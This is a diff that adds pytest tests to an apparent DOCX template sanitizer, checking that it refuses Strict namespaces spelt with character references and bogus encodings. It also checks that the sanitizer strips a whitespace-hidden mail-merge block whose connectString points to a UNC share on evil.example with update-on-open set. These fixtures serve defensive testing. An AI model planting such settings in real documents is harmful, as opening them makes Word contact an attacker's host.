@@ -12,6 +12,7 @@ import gzip
 import io
 import re
 import zipfile
+from collections.abc import Callable
 
 import pytest
 from docx import Document
@@ -1016,3 +1017,50 @@ def test_a_malformed_part_is_said_with_its_name_not_a_traceback() -> None:
     template = _template("<w:p><w:r><w:t a='1' a='2'>x</w:t></w:r></w:p>")
     with pytest.raises(UnreadableDocumentError, match=r"word/document\.xml 不是格式正确的 XML"):
         prepare(template, "坏.docx")
+
+
+def _with_settings(change: Callable[[bytes], bytes]) -> bytes:
+    base = paragraphs_template("{{ 单位名称 }}")
+    return with_parts(base, {"word/settings.xml": change(parts_of(base)["word/settings.xml"])})
+
+
+def test_a_strict_namespace_spelt_with_character_references_is_refused() -> None:
+    """The parser reads &#x70;url.oclc.org as purl.oclc.org: so does the check."""
+    hidden = 'xmlns:s="http://&#x70;url.oclc.org/ooxml/wordprocessingml/main"'
+
+    def strict(settings: bytes) -> bytes:
+        element = f'<s:updateFields {hidden} s:val="true"/>'.encode()
+        return settings.replace(b"</w:settings>", element + b"</w:settings>")
+
+    with pytest.raises(UnreadableDocumentError, match="Strict"):
+        sanitize_template(_with_settings(strict), "严格.docx")
+
+
+def test_a_part_behind_a_long_run_of_whitespace_is_still_cleaned() -> None:
+    """XML may start after any whitespace, and Word reads it so: the part is cleaned all the
+    same (here: a mail merge's data source and fields updated on opening)."""
+    merge = (
+        b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
+        b'<w:connectString w:val="\\\\evil.example\\share\\x.xlsx"/></w:mailMerge>'
+        b'<w:updateFields w:val="true"/>'
+    )
+
+    def padded(settings: bytes) -> bytes:
+        start = settings.index(b"<w:settings")
+        body = settings[start:].replace(b"</w:settings>", merge + b"</w:settings>")
+        return b" " * 300 + body
+
+    clean = sanitize_template(_with_settings(padded), "空白.docx")
+    settings = clean.parts["word/settings.xml"]
+    assert b"mailMerge" not in settings and b"updateFields" not in settings
+    assert b"evil.example" not in settings
+
+
+@pytest.mark.parametrize("encoding", ["rot13", "base64", "idna", "undefined"])
+def test_a_part_declaring_an_encoding_no_xml_is_written_in_is_refused(encoding: str) -> None:
+    def declared(settings: bytes) -> bytes:
+        start = settings.index(b"<w:settings")
+        return f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + settings[start:]
+
+    with pytest.raises(UnreadableDocumentError, match="编码无法识别"):
+        sanitize_template(_with_settings(declared), "编码.docx")
